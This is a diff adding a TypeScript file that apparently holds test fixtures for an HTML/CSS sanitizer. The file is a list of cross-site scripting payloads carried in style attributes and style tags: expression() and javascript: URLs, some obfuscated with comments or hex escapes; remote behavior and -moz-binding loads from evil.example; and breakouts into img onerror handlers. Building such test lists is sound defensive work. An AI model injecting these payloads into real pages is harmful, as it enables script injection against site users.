@@ -1,0 +1,22 @@
+/** Styles that run, load or leave their place. */
+export const css: readonly string[] = [
+  '<p style="width:expression(alert(1))">x</p>',
+  '<p style="width:exp/**/ression(alert(1))">x</p>',
+  String.raw`<p style="width:expr\65 ssion(alert(1))">x</p>`,
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  "<p style=\"background:url('javascript:alert(1)')\">x</p>",
+  String.raw`<p style="background:url(\6aavascript:alert(1))">x</p>`,
+  '<p style="behavior:url(//evil.example/a.htc)">x</p>',
+  '<p style="-moz-binding:url(//evil.example/a.xml#x)">x</p>',
+  '<style>@import "javascript:alert(1)";</style>',
+  "<style>@import url(data:text/css,*{x:expression(alert(1))});</style>",
+  "<style>*{background:url(javascript:alert(1))}</style>",
+  "<style>p{width:expression(alert(1))}</style>",
+  '<style>p{content:"</style><img src=x onerror=alert(1)>"}</style>',
+  "red;} </style><img src=x onerror=alert(1)>",
+  "red;background:url(javascript:alert(1))",
+  'red" onmouseover="alert(1)',
+  "expression(alert(1))",
+  "url(javascript:alert(1))",
+  "1px;-moz-binding:url(//evil.example/a.xml#x)",
+];
